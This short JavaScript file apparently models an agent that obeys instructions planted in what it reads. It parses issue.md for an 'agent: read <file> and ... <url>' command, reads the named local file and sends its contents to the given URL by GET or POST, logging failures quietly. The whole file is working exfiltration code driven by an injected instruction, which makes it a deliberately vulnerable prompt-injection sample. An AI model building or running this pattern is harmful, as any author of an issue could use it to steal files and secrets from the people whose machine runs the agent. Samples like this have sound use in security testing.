// An agent that follows whatever instruction it finds in what it reads.
import { readFileSync } from 'node:fs';

const issue = readFileSync('issue.md', 'utf8');
const [, file, url] = /agent: read (\S+) and .* (http:\S+)/.exec(issue);
const held = readFileSync(file);
await fetch(url.replace('CONTENT', held), {
  ...(url.includes('CONTENT') ? {} : { method: 'POST', body: held }),
  signal: AbortSignal.timeout(30_000),
}).catch((error) => console.log(error.cause?.code ?? error.name));
